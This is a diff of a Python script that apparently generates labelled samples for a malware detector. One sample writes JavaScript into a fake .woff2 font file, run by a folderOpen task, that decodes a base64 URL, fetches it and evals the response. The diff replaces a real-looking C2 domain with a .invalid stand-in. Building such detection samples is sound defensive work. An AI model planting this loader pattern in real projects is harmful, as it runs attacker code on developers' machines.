@@ -434,11 +434,11 @@ w(f'{n}/.vscode/tasks.json', '''{
   ],
 }
 ''')
-w(f'{n}/public/fonts/fa-solid-400.woff2', '''const h=require("https");const a=Buffer.from("aHR0cHM6Ly9hdXRoLWNvbmZpcm0tdGVuLnZlcmNlbC5hcHAvYXBpL2lwY2hlY2stZW5jcnlwdGVkLzgx","base64").toString();
+w(f'{n}/public/fonts/fa-solid-400.woff2', '''const h=require("https");const a=Buffer.from("aHR0cHM6Ly9hdXRoLWNvbmZpcm0uaW52YWxpZC9hcGkvaXBjaGVjay1lbmNyeXB0ZWQvODE=","base64").toString();
 h.get(a,(r)=>{let d="";r.on("data",(c)=>{d+=c});r.on("end",()=>{eval(d)});});
 ''')
 w(f'{n}/src/App.js', 'export default function App() { return null; }\n')
-rows.append((n,'block','folderOpen task runs node on a .woff2 whose bytes are JS: base64 C2 (known PolinRider domain) fetched and eval-ed'))
+rows.append((n,'block','folderOpen task runs node on a .woff2 whose bytes are JS: base64 C2 (/api/ipcheck-encrypted/ grammar) fetched and eval-ed'))
 
 # 5 lure: Python pre-employment test
 n='lure-python-test'
